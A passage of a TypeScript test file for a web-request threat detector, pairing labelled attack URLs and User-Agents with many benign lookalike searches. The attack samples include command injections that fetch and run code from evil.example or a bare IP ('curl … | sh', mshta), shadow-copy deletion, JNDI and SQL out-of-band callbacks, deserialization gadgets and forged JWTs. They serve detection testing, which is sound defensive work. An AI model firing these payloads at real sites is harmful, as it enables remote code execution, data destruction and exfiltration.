  ['generic-dotnet-deserialization', '/api?x={"$type":"System.Windows.Data.ObjectDataProvider,%20PresentationFramework","MethodName":"Start"}'],
  ['generic-python', '/api?x={"py/reduce":[{"py/type":"subprocess.Popen"},{"py/tuple":[["id"]]}]}'],
  // Batch 12: Windows tools with a URL or the subcommand that does harm, PHP's session files, terminal escapes
  // for whoever reads the log, JSON Web Tokens forged for weak verifiers.
  ['rce-windows-switch', '/ping?host=127.0.0.1%26%20mshta%20http://evil.example/a.hta'],
  ['rce-windows-switch', '/ping?host=127.0.0.1%26%20wmic%20process%20call%20create%20%22calc.exe%22'],
  ['rce-windows-switch', '/ping?host=127.0.0.1%26%20vssadmin%20delete%20shadows%20/all%20/quiet'],
  ['rce-windows-switch', '/ping?host=127.0.0.1%26%20timeout%20/t%2010'],
  ['lfi-system-file', '/index.php?page=/tmp/sess_abcdef123456'],
  ['protocol-terminal-escape', '/a?x=%1b[31mALERT%1b[0m'],
  ['protocol-terminal-escape', '/a?x=%1B]2;title%07'],
  ['generic-jwt-forgery', '/account?token=eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0.eyJzdWIiOiJhZG1pbiJ9.'],
  ['generic-jwt-forgery', '/debug/jwt?header={"alg":"none","typ":"JWT"}'], // the header as a tool sends it, not yet encoded
  ['generic-ssrf-internal-host', '/fetch?url=::1'],
  ['generic-ssrf-internal-host', '/fetch?url=127.0.0.1%09'], // a trailing tab, which URL parsers strip
  // Batch 13: Oracle's packages called through a member, its URI types, SQLite's extensions.
  ['sqli-function', "/item?id=1%20and%20dbms_ldap.init((select%20user%20from%20dual)||'.evil.example',80)%20is%20not%20null"],
  ['sqli-function', "/item?id=1%20and%20httpuritype('http://evil.example/').getclob()%20is%20not%20null"],
  ['sqli-function', "/item?id=1%20and%20load_extension('/tmp/x.so')"],
  ['sqli-json-operator', "/item?id=1%20or%20'{\"a\":1}'::jsonb%20=%20'{\"a\":1}'::jsonb"],
  ['sqli-json-operator', "/item?id=1%20or%20'{}'='{}'"],
  ['sqli-json-operator', "/item?id=1%20or%20'{\"a\":1}'%20is%20json"],
  // JavaScript's escapes of letters: decoded for the rules of names, and a sign of their own as logged.
  ['generic-node-injection', '/api?x=%5Cu0070rocess.env'],
  ['generic-node-injection', '/api?x=pro%5Cu{63}ess.mainModule'],
  ['generic-node-injection', "/api?x=global['%5C160rocess']"],
  ['generic-node-injection', "/api?x=global['pro'%2B'cess'].mainModule"],
  ['php-variable-call', '/index.php?f=("\\x70\\x68\\x70\\x69\\x6e\\x66\\x6f")()'], // ("phpinfo")() once the \xHH are read
  ['xss-handler-attribute', '/get?var=%22in%20\\u0076\\u0061l\\u0075e\\u004F\\u0066%3d'],
  ['generic-jwt-forgery', '/account?token=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCIsImtpZCI6Ii4uLy4uLy4uLy4uL2Rldi9udWxsIn0.eyJzdWIiOiJhZG1pbiJ9.x'],
];

/** Attacks in the User-Agent, for the detectors that read only that field. */
const USER_AGENT_ATTACKS: ReadonlyArray<readonly [string, string]> = [
  ['scanner-ua', 'sqlmap/1.7.2#stable (https://sqlmap.org)'],
  ['scanner-oast-host', 'Mozilla/5.0 (compatible; +http://c5k2a9.oastify.com/)'], // a blind probe's callback host
  ['rce-ua-command', 'bash -c id'],
  ['rce-lone-command', 'whoami'],
  ['rce-command-chain-ua', 'Mozilla/5.0 | id'],
  ['java-jndi-lookup', '&#x24;&#0000000000000000000000123;jndi:ldap://evil.example/a}'], // zero-padded character references
  ['scanner-ua', 'wafw00f'],
  ['scanner-ua', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) xray/1.9.11'],
  ['scanner-ua', 'Mozilla/5.0 SF/2.10b'],
  ['protocol-terminal-escape', 'Mozilla/5.0 \\x1B]0;owned\\x07'], // the \xHH form nginx writes for a control byte
];

const BENIGN: readonly string[] = [
  // The benign twins of the less common forms above: a socket, dunders, Smarty and PHP names in searches,
  // a JSONP callback, a size range, a quiz answer, a number sign as pounds, brackets in a Markdown list.
  '/search?q=how+much+sleep+(5+hours)+is+enough', // a number and a word in brackets, as prose writes them
  '/wiki/What%3F', // an encoded question mark in a page's title, after no script's extension
  '/search?q=JavaScript%3A+The+Definitive+Guide&sort=price', // a book's title
  '/search?q=interact.sh+tutorial', // a testing service named without a probe's host
  '/~john/index.html', // a user's home folder, not a short name
  '/search?q=%E4%BE%A1%E6%A0%BC%EF%BC%8F%E3%82%B5%E3%82%A4%E3%82%BA', // 価格／サイズ: a fullwidth slash in Japanese
  '/p/shoe/details;color=red;v=2', // path parameters with names
  '/search?q=web.service.consul+dns', // a Consul name in a sentence
  '/docs/groovy/execute-process', // the method's name in a path
  '/reviews?filter=user+(1+star)',
  '/docs?q=docker.sock+permissions',
  '/docs?q=python+__init__+vs+__new__',
  '/docs?q=__subclasses__',
  '/docs?q=Function.prototype.constructor',
  '/docs?q=smarty+templates+%7B%24var%7D',
  '/api/products?callback=jQuery3510_1700000000&format=jsonp',
  '/search?q=shoes+size+10+or+12',
  '/quiz?answer=1+or+2',
  '/shop/paper?weight=20+or+24%23',
  '/notes?text=[+]+milk+[x]+bread',
  '/notes?text=-+[+]+milk%0A-+[x]+bread', // a Markdown checklist
  '/api?x=0x1f%3D0x1f', // a hex value and its equal, with no operator word
  '/support/kb?q=ip6+localhost+entry+in+hosts', // the words, not a host
  '/search?q=price+($)+(usd)',
  '/img?image_path=https://cdn.example/x.png&w=200', // a thumbnailer's source: a URL where one is expected
  '/settings?implementation=java&lowsrc=1',
  '/api/items?filter={"tags":["a","b"],"price":{"lt":10}}',
  '/search?q=free+shipping+while+(supplies+last)',
  '/search?q=for+(2+people)%3B+under+%2450',
  '/search?q=i+use+localhost.',
  '/search?q=%22red+dress%22+style%3Dboho', // a quoted phrase and a facet, not an attribute
  '/search?q=the+%22source%22+href+link',
  '/docs?q=new+Array(5)',
  "/api/acl?path='/*'&verb=read", // a quoted glob, not a comment after a string
  '/go?u=https://cdn.example//assets//app.js', // doubled slashes in an ordinary URL
  '/conference/talks?session=3&track=web', // a session of talks, not a session id
  '/preview?html=%3C!DOCTYPE+html+PUBLIC+%22-//W3C//DTD+XHTML+1.0+Strict//EN%22%3E', // an XHTML page's DOCTYPE
  '/secure/attachment/10200/server.log', // an issue tracker's attachment
  '/acme/app/-/blob/main/logs/build.log', // a log file shown by a code-hosting site
  '/shop-bucket/logs/app.log?uploads', // an object in a bucket, by S3's path-style API
  '/docs/logging?file=app.log', // a log file named in a query
  '/users/id_rsa_rotation', // a page whose name starts like a key file's
  '/search?q=%22cats%22+and+select+a+breed', // a quoted word, `and` and `select` as words
  "/search?q=rock+'n'+roll+or+select+hits",
  '/search?q=sp_password+deprecated', // the procedure named in a search
  '/docs/sql?q=a/**/comment+and+2+more', // a comment, then `and` before a number with no comparison
  '/search?q=%22bacon%22+onion%2Bgarlic', // a quoted word, then one starting with `on` after a `+`
  '/search?q=%22weather%22+(alert)+(red)', // a sink's name in brackets as a word
  '/search?q=promo+code%3D%22spring%22+online', // `on…` after a quote, with no `=` after it
  '/api/items?filter=%7B%22onsale%22:true%7D', // a JSON key that starts with `on`
  '/docs/js/array-find?example=%5B1%2C2%5D.find(isEven)', // an array method with an ordinary callback
  '/search?q=python+subprocess+check_output+example', // the names without a call
  '/docs/struts/ognl?expr=%23session.user', // OGNL and XWork named, not called
  '/search?q=ognl+xwork+tutorial',
  '/search?q=count(/)+in+xpath', // XPath's words in a search
  '/docs/xpath?expr=//book[price>35]/title',
  '/export?format=csv&name=-5%25+discount', // a leading minus without a DDE call
  '/search?q=@home+%7C+garden', // a handle and a pipe
  '/api/orders?sort={"total":-1}&filter={"status":"paid"}', // a JSON filter without operators
  '/actuator/health',
  '/docs/php/phpinfo-function',
  '/cgi-bin/webscr?cmd=_s-xclick&hosted_button_id=ABC123', // PayPal's buttons
  '/admin.php?cmd=list&page=2',
  '/elfinder/php/connector.minimal.php?cmd=ls&target=l1_Lw&intersect[]=photo.jpg', // elFinder's own command names
  '/drupal/node/add/article?destination=/admin/content%23main',
  '/@alice/posts?ref=@bob.example/x', // a handle in the path, one in a value
  '/docs/api/object-prototype?q=Object.prototype.toString', // read, not assigned
  '/search?q=global+process+improvement',
  '/search?q=top+1+or+2+like+items', // words between the numbers
  '/r?next=https://shop.example.com/a%23top&contact=help@example.com',
  '/docs/library/os.html?highlight=os.system',
  '/blog/css-%25%7B-variables?tag=%23layout',
  '/search?q=100%25+cotton+shirt',
  '/search?q=c%23+for+beginners',
  '/api/orders?sort=uname&order=asc&page=2',
  '/admin/report?fields=session,created_at&limit=10',
  '/feed?style=%3C%3Fxml+version%3D%221.0%22%3F%3E',
  '/search?q=(select+a+size)',
  '/checkout/note?text=leave+at+door%3B+call+me+on+arrival',
  "/feedback?text=the+'select'+button+is+greyed+out", // a quoted word
  '/graphql?query=%7Buser(id%3A1)%7Bname%2Cemail%7D%7D', // GraphQL over GET: selections, not brace expansion
  '/graphql?query=%7Borders%7Bedges%7Bnode%7Bid%2Ctotal%7D%7D%7D%7D',
  '/search?q=size+m%3B+update+me+when+in+stock',
  '/search?q=kids+table%3B+drop-in+chairs',
  '/search?q=window+film+%5Bfrosted%5D',
  '/search?q=%22one%22+or+%22two%22',
  '/search?q=base+64+ruler',
  '/blog/how-localhost-works',
  '/redirect?next=https://shop.example/account',
  '/static/js/app.3f2a1b9c.min.js',
  '/docs/release-notes-1.2.conf.html',
  '/search?q=net+curtains',
  '/search?q=io+games',
  '/search?q=file+cabinet',
  '/search?q=dir+en+grey+cd',
  '/products?color=red&_=1733400000000',
  '/search?q=%E2%9C%93+checked',
  '/help/search?q=what+to+do+in+case+when+the+parcel+is+late+then',
  // Prose with the words and brackets of code (the English set of the threat bench holds many more).
  '/search?q=throw+pillows',
  '/search?q=velvet+throw+blanket',
  '/search?q=operating+system+(windows+11)',
  '/search?q=eval+(board+game)',
  '/search?q=fetch+(dog+toy)',
  '/search?q=convert+(pdf)+to+word',
  '/search?q=extract+(ore)+from+a+strip-mine',
  '/search?q=shoes+(kids)+select+size',
  '/search?q=%27drop+dead%27+gorgeous',
  '/search?q=t-shirt+(blue)+or+not+at+all',
  '/search?q=a+facial+expression+(as+a+smile)',
  "/search?q=the+immune+system's+response",
  '/search?q=(followed+by+%27of%27)+having+a+liking+for',
  '/search?q=%22silence+is+better+than+unmeaning+words%22--Pythagoras',
  "/search?q=a+British+term+for+'quarry'+is+'stone+pit'",
  '/search?q=%22...caused+the+sun+to+rise.%22-+%27Chanticler%27+by+Rostand',
  // Names with a dollar in a word, and Turkish, which writes the percent sign first ("%50 indirim", 50 % off).
  '/search?q=ke%24ha+tickets',
  '/search?q=a%24ap+rocky',
  '/search?q=%2550+indirim',
  '/search?q=%25100+pamuk',
  // A scheme before a slash is no drive letter; a C++ scope before a word is no NTFS stream; a do-while in prose.
  '/go?to=https://windows.example.com/download',
  '/search?q=std::string+data',
  '/search?q=what+to+do+while+waiting',
  // Lines of text in one value: a note or an address sent with GET.
  '/api/notes?text=Go+to+store.%0AAt+the+store%2C+shop.&v=2',
  '/track?address=221B+Baker+Street%0D%0ALondon+NW1+6XE',
  "/search?q=%2520'ye+varan+indirim",
  // Percent-encoded UTF-8 holds the bytes 0xBC and 0xBE that US-ASCII XSS uses for < and > (м is D0 BC).
  '/search?q=%D0%BC%D0%BE%D0%BB%D0%BE%D0%BA%D0%BE', // молоко
  '/search?q=%D5%BC%D5%B8%D5%BE%D5%AB%D5%A1%D5%B6%D5%A1', // ռովիանա (Armenian)
  '/search?q=%E3%83%BD%E0%BC%BC%E0%BA%88%D9%84%CD%9C%E0%BA%88%E0%BC%BD%EF%BE%89', // ヽ༼ຈل͜ຈ༽ﾉ
  // Dynamic routes in the paths of a web framework's code (Next.js names them [param]), not globs.
  '/_next/static/chunks/app/%5Blocale%5D/(shop)/products/%5Bslug%5D/page-1a2b3c4d.js',
  '/_next/static/chunks/app/%5Bid%5D/%5Bab%5D/page.js',
  '/_next/static/chunks/pages/%5Bteam%5D/%5Bproject%5D-2b3c.js',
  '/_next/data/build123/en/products/%5Bslug%5D.json?slug=red-shoe',
  // What every ASP.NET Web Forms page loads, and Socket.IO's WebSocket upgrade (no Referer there).
  '/WebResource.axd?d=pynGkmcFUV13He1Qd6_TZAG0REM8qqEB&t=638250000000000000',
  '/ScriptResource.axd?d=NJmAwtEo3Ipnlaxl6CMhvtsjOePWILOyJcPl&t=ffffffffe8f46b29',
  '/socket.io/?EIO=4&transport=websocket&sid=abcDEF123',
  '/search?q=cat+%2F+dog+bowl',
  // Quoted phrases joined as prose and search syntax write them: a slash, a spaced dash, a phrase excluded,
  // a double dash before an attribution.
  '/search?q=%22yes%22%2F%22no%22+sign',
  '/search?q=%22buy+1+get+1%22+-+%22free%22',
  '/search?q=%22apple%22+-%22pie%22',
  '/search?q=he+said+%22hello%22+--+then+left',
  '/search?q=%27Round+Midnight%27+--+Thelonious+Monk',
  // A value that is an encoded URL or path carries its own query's encoding one level deeper.
  '/login?return_to=%2Fsearch%3Fq%3Dcaf%25C3%25A9',
  '/login?next=%2Fsearch%3Fq%3Dred%2520shoes%26page%3D2',
  '/r?u=https%3A%2F%2Fshop.example%2Fp%2Fm%25C3%25BCller-shirt&h=AT0abc',
  '/oauth/authorize?client_id=abc&redirect_uri=https%3A%2F%2Fapp.example%2Fcb%3Fnext%3D%252Fdashboard',
  '/click?url=https%253A%252F%252Fshop.example%252Fsale%253Fq%253Dred%252520shoes&id=42',
  '/job/shop/job/feature%252Fnew-login/lastBuild/console', // Jenkins: a branch with a slash, in a job's path
  // A repository's dot-files shown by a code-hosting site (GitLab, Gitea).
  '/shop/-/blob/main/.gitlab-ci.yml',
  '/org/repo/src/branch/main/.github/workflows/ci.yml',
  '/shop/-/tree/feature/login/.husky',
  '/search?q=%EF%BC%9C%E9%80%81%E6%96%99%E7%84%A1%E6%96%99%EF%BC%9E+%E3%82%B9%E3%83%8B%E3%83%BC%E3%82%AB%E3%83%BC', // ＜送料無料＞ スニーカー
  // The paths of proxies in front of the site: Anubis's bot challenge, Pomerium's sign-out.
  '/.within.website/x/cmd/anubis/api/pass-challenge?id=abc&response=0000ab&nonce=42&redir=%2F&elapsedTime=420',
  '/.pomerium/sign_out?pomerium_redirect_uri=https%3A%2F%2Fshop.example%2F',
  // Words glued by pipes are a list (analytics beacons, facets); a command name after a semicolon and a space,
  // followed by a word, is prose.
  '/b/ss/shoprsid/1/JS-2.22.0/s12345?pageName=us%7Chome%7Cshoes&v1=search%7Cfind%7Cresults',
  '/api/search?facets=brand|size|more',
  '/api/v1/reports?cols=user|last|login',
  '/checkout/note?text=call+me%3B+time+flexible',
  '/search?q=bowl&pet=dog%7Ccat', // two elements: a command that does nothing without an argument
  '/search?q=bowl&pet=cat%7Cdog',
  '/on/demandware.store/Sites-Shop-Site/en_US/Search-Show?q=racket&prefn1=brand&prefv1=wilson%7Chead',
  // A value that starts with a command name and a separator, when a word that is no command follows: a
  // brand or a phrase ("head | shoulders", "cat && dog").
  '/search?q=head+%7C+shoulders+shampoo',
  '/search?q=cat+%26%26+dog+toys',
  // An encoded return address inside an OAuth state's JSON, and a redirect whose inner URL keeps its scheme
  // raw but its path's encoding (Google Docs' `/url?q=`).
  '/auth/callback?state=%7B%22returnTo%22%3A%22%2Fcheckout%3Fstep%3D2%26note%3Dhi%2520there%22%7D',
  '/url?q=https://shop.example.com/p/caf%25C3%25A9&sa=D&source=editors',
  // A JSON filter whose key is an SQL operator's name (LoopBack, Sequelize-style APIs).
  '/api/products?where={"price":{"gt":10},"name":{"like":"%25shoe%25"}}',
  // A dev server's dependency cache and a notebook server's checkpoints.
  '/node_modules/.vite/deps/react.js?v=8a8b8c',
  '/user/alice/api/contents/work/.ipynb_checkpoints?content=0',
  // A message with a blank line and a signature line that starts with a dash.
  '/gift?message=Dear+Sam%2C%0D%0A%0D%0ACongrats+on+the+new+job!%0D%0A-+The+team',
  // A line of a note or an address that starts with a word and a colon.
  '/checkout/note?text=Leave+it+at+the+back%0Atime%3A+after+6pm',
  '/gift/message?text=To%3A+Alice%0AFrom%3A+Bob',
  '/account/address?text=Flat+3%2C+12+King+St%0D%0ATel%3A+020+7946+0000',
  // Base64 that decodes to text: a JWT, Magento's encoded return URL, a Rails Active Storage key.
  '/account?token=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c',
  '/checkout/cart/add/uenc/aHR0cHM6Ly9zaG9wLmV4YW1wbGUuY29tL3Nob2UuaHRtbD9jb2xvcj1yZWQ%2C/product/42/',
  // A template and an HTML snippet passed on as content in base64.
  `/mail/preview?tpl=${Buffer.from('Hello {{name}}, your order {{order.id}} shipped').toString('base64')}`,
  `/cms/preview?html=${encodeURIComponent(Buffer.from('<div class="promo" onclick="track(1)">Sale</div>').toString('base64'))}`,
  '/rails/active_storage/blobs/redirect/eyJfcmFpbHMiOnsibWVzc2FnZSI6IkJBaHBCZz09IiwiZXhwIjpudWxsLCJwdXIiOiJibG9iX2lkIn19--abc123/shoe.jpg',
  // Near the batch-10 forms: a file manager's own verbs, a setting's name in a docs search, prose with "process.".
  '/connector?cmd=chmod&mode=755&target=l1_Lw',
  '/docs?command=git%20status',
  '/run?cmd=test',
  '/docs/search?q=session.save_path%20permissions',
  '/upload?extension=pdf',
  '/search?q=business%20process.%20Global%20teams',
  '/search?q=process.%20Constructor%20kits',
  '/search?q=fs%20readdirSync%20example',
  '/search?q=isjson%20sql%20server',
  '/blog?tag=for%20loops',
  '/search?q=2%3E/dev/null',
  '/browse?path=xbin/sh',
  '/search?q=while%20(supplies%20last)%20grab%20one',
  '/search?q=shop%20while%20(stocks%20last);%20free%20shipping',
  '/cal?filter=type:event=1',
  '/index.php?url=http://partner.example/feed.xml',
  '/p?ld={"@type":"Product","name":"Desk%20lamp"}',
  '/p?ld={"@context":"https://schema.org","@type":"schema:Product"}',
  '/api?x={"$type":"MyApp.Models.Order,%20MyApp"}',
  '/search?q=esi%20tags%20in%20varnish',
  '/search?q=javax.servlet%20tutorial',
  '/search?q=py/reduce',
  '/cb?id_token=eyJhbGciOiJSUzI1NiIsImtpZCI6IjFlOWdkazcifQ.eyJpc3MiOiJodHRwOi8vc2VydmVyLmV4YW1wbGUuY29tIiwic3ViIjoiMjQ4Mjg5NzYxMDAxIn0.sig',
  '/search?q=wmic%20tutorial',
  '/search?q=salt%20%26%20pepper%20grinder',
  '/blog/tmp-session-files',
  '/search?q=localhost%20is%20down',
  '/search?q=what%20is%20::1',
  '/search?q=user%20((not%20me))',
  '/search?q=load_extension%20sqlite',
  '/search?q=caf%5Cu00e9',
  '/search?q=(phpinfo)%20(tutorial)',
  '/search?q=what%20is%20json',
  "/api/items?q='{\"size\":\"m\"}'",
];

describe('rule families', () => {
  it.each(ATTACKS.map(([detector, url]) => ({ detector, url })))('$detector: $url', ({ detector, url }) => {
    expect(detectorsOf(url)).toContain(detector);
  });

  it.each(USER_AGENT_ATTACKS.map(([detector, userAgent]) => ({ detector, userAgent })))('$detector in the User-Agent: $userAgent', ({ detector, userAgent }) => {
    expect(detectorsOf('/', undefined, userAgent)).toContain(detector);
  });

  it.each(BENIGN)('leaves %s alone', (url) => {
    expect(scorer.score(url, BROWSER, undefined)).toBeUndefined();
  });

  it.each([
    'Mozilla/5.0 (Windows Phone 8.1; ARM; Trident/7.0; Touch; rv:11.0; IEMobile/11.0; NOKIA; Lumia 530) like Gecko',
    'serpstatbot/1.0 (advanced backlink tracking bot; curl/7.58.0; http://serpstatbot.com/; abuse@serpstatbot.com)',
    'Mozilla/5.0 (compatible; Uptime/1.0; http://uptime.com)',
    'python-httpx/0.27.0',
    'Composer/2.6.6 (Linux; 5.15.0-91-generic; PHP 8.3.0; cURL 7.81.0; Platform-PHP 8.3.0; CI)',
  ])('leaves the User-Agent %s alone: command names as its tokens, an ordinary client', (userAgent) => {
    expect(scorer.score('/products/usb-c-cable', userAgent, undefined)).toBeUndefined();
  });

  it.each([
    'Mozilla/5.0; curl http://203.0.113.5/x.sh | sh',
    'Mozilla/5.0 | id',
    'x; wget -qO- http://203.0.113.5/a',
    'x; ping 10.0.0.1',
  ])('takes a command chained in the User-Agent %s', (userAgent) => {
    expect(scorer.score('/', userAgent, undefined)?.reasons.map((r) => r.detector)).toContain('rce-command-chain-ua');
  });

  it('reads a script sent base64-encoded in a User-Agent, and names the decoded fragment', () => {
    const verdict = scorer.score('/product.php?id=33', 'data:text/plain;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', undefined);
    expect(verdict?.reasons).toContainEqual({ detector: 'xss-script-tag', class: 'xss', fragment: 'base64:<script', field: 'user_agent' });
  });

  it('leaves base64 unread with decode_base64: false', () => {
    const unread = new HttpThreat(httpThreatConfig.parse({ decode_base64: false }));
    expect(unread.score('/product.php?id=33', 'data:text/plain;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', undefined)).toBeUndefined();
  });

  it('takes a session id in the URL for fixation when the request has no Referer, and any Referer as on-site when the site is unknown', () => {
    expect(detectorsOf('/cart?jsessionid=ABC123')).toContain('session-id-param');
    expect(detectorsOf('/cart?jsessionid=ABC123', 'https://shop.example/products')).not.toContain('session-id-param');
    expect(detectorsOf('/cart?jsessionid=ABC123', 'https://evil.example/')).not.toContain('session-id-param');
    expect(detectorsOf('/cart?jsessionid=ABC123', '-')).toContain('session-id-param');
    expect(detectorsOf('/app/(S(lit3py55t21z5v55vlm25s55))/default.aspx', 'https://shop.example/')).not.toContain('session-id-param');
  });

  it('takes a cloud metadata address as a Referer for a probe, and an ordinary Referer as nothing', () => {
    expect(detectorsOf('/', 'http://169.254.169.254/latest/meta-data/')).toContain('generic-cloud-metadata');
    expect(detectorsOf('/', 'https://www.google.com/search?q=aws+latest+meta-data')).toEqual([]);
  });

  it("takes a Referer from another site as fixation once the site's hosts are known, from the request or the config", () => {
    const fires = (referrer: string, host: string | undefined, siteHosts: string[] = []) =>
      new HttpThreat(httpThreatConfig.parse({ site_hosts: siteHosts })).score('/cart?phpsessid=ABC123', BROWSER, referrer, host)?.reasons.some((r) => r.detector === 'session-id-param') === true;
    expect(fires('https://evil.example/x', 'shop.example')).toBe(true);
    expect(fires('https://shop.example/products', 'shop.example')).toBe(false);
    expect(fires('https://www.shop.example/products', 'shop.example:8443')).toBe(false);
    expect(fires('https://notshop.example/', 'shop.example')).toBe(true);
    expect(fires('https://evil.example/x', undefined, ['shop.example'])).toBe(true);
    expect(fires('https://checkout.pay.example/done', undefined, ['shop.example', 'pay.example'])).toBe(false);
    expect(fires('android-app://com.google.android.gm/', 'shop.example')).toBe(true);
    // Not a URL: nothing to compare, as CRS's off-domain rule only reads http(s) and ftp Referers.
    expect(fires('some text', 'shop.example')).toBe(false);
  });

  it('reads the host from the field the config names, as parse_access_log writes it', () => {
    const threat = new HttpThreat(httpThreatConfig.parse({}));
    const event = (referrer: string) => ({ '@timestamp': '2026-12-05T10:00:00.000Z', message: '', url: { original: '/cart?jsessionid=ABC123', domain: 'shop.example' }, http: { request: { referrer } }, user_agent: { original: BROWSER } });
    expect(threat.process([event('https://evil.example/')])[0]?.['rule']).toEqual({ name: 'session-id-param', category: 'session_fixation' });
    const own = event('https://shop.example/cart');
    expect(threat.process([own])[0]?.['threat']).toBeUndefined();
  });

  it('reads the encoding in the value as logged: a null byte decoded away still counts, a valid escape does not', () => {
    expect(detectorsOf('/f?name=a%00b')).toContain('protocol-null-byte');
    expect(detectorsOf('/f?name=a%20b')).toEqual([]);
  });

  it("never skips a pattern that would match: each detector's gate characters or words are in every value it matches", () => {
    const samples = [...ATTACKS.map(([, url]) => url), ...BENIGN, "/a?x=1' union/**/select 1", '/a?x=${${lower:j}ndi:x}', '/a?x=c\\a\'t /etc/passwd', '/a?%24%7Bjndi%3Aldap%3A%2F%2Fx%7D'];
    let checked = 0;
    for (const sample of samples) {
      const views = normalise(sample, 3);
      for (const det of DETECTORS) {
        if ((det.chars === undefined && det.words === undefined) || !det.pattern.test(viewText(views, det.view))) continue;
        checked++;
        const byChars = det.chars !== undefined && (charMask(det.view === 'raw' || det.view === 'spaced' ? viewText(views, det.view) : views.text) & maskOf(det.chars)) !== 0;
        const byWords = (det.words ?? []).some((word) => viewText(views, det.view).includes(word));
        expect(byChars || byWords, `${det.id} on ${sample}`).toBe(true);
      }
    }
    expect(checked).toBeGreaterThan(ATTACKS.length);
  });

  it("has an attack here that each detector's pattern matches, so that none is dead", () => {
    const views = [...ATTACKS.map(([, url]) => url), ...USER_AGENT_ATTACKS.map(([, userAgent]) => userAgent)].map((value) => normalise(value, 3));
    const unmatched = DETECTORS.filter((det) => !views.some((v) => det.pattern.test(viewText(v, det.view))));
    expect(unmatched.map((det) => `${det.id} ${det.pattern.source.slice(0, 60)}`)).toEqual([]);
  });

  it('looks in each view only for what it can hold: no upper case where text is lower-cased (escaped either), no comment where comments are gone, no null byte', () => {
    // Escapes (\S, \x41, \u00bc) and named groups are not literal letters.
    const literal = (det: (typeof DETECTORS)[number]) => det.pattern.source.replace(/\\x[0-9a-fA-F]{2}|\\u[0-9a-fA-F]{4}|\\k<\w+>|\\[a-zA-Z]|\(\?<\w+>/g, '');
    const upper = DETECTORS.filter((det) => det.view !== 'raw' && !det.pattern.flags.includes('i') && /[A-Z]/.test(literal(det)));
    const comment = DETECTORS.filter((det) => det.view !== 'raw' && det.view !== 'commented' && /\\\/\\\*|\\\*\\\//.test(det.pattern.source));
    const nullByte = DETECTORS.filter((det) => det.view !== 'raw' && /\\x00|\\u0000/.test(det.pattern.source));
    // An escaped character that lower-casing changes (\xc0, À), outside a range's ends.
    const upperEscape = DETECTORS.filter(
      (det) =>
        det.view !== 'raw' &&
        !det.pattern.flags.includes('i') &&
        [...det.pattern.source.matchAll(/(?<!-)\\(?:x([0-9a-fA-F]{2})|u([0-9a-fA-F]{4}))(?!-)/g)].some((m) => {
          const char = String.fromCharCode(parseInt(m[1] ?? m[2] ?? '', 16));
          return char.toLowerCase() !== char;
        }),
    );
    expect([...upper, ...comment, ...nullByte, ...upperEscape].map((det) => det.id)).toEqual([]);
  });

  it('folds doubled slashes and /./ in the collapsed view, not the // of a scheme', () => {
    expect(viewText(normalise('/a//b/./c?u=http://x//y&f=file:///etc', 3), 'collapsed')).toBe('/a/b/c?u=http://x/y&f=file://etc');
    const plain = normalise('/a/b?c=d', 3);
    expect(viewText(plain, 'collapsed')).toBe(plain.text);
  });

  it('gates on punctuation only: an unknown character is refused, a non-ASCII one shares a bit', () => {
    expect(() => maskOf('a')).toThrow(/not a gated character/);
    expect(charMask('é') & maskOf('\u00bc')).not.toBe(0);
    expect(charMask('plain-words') & maskOf('<(')).toBe(0);
  });
});
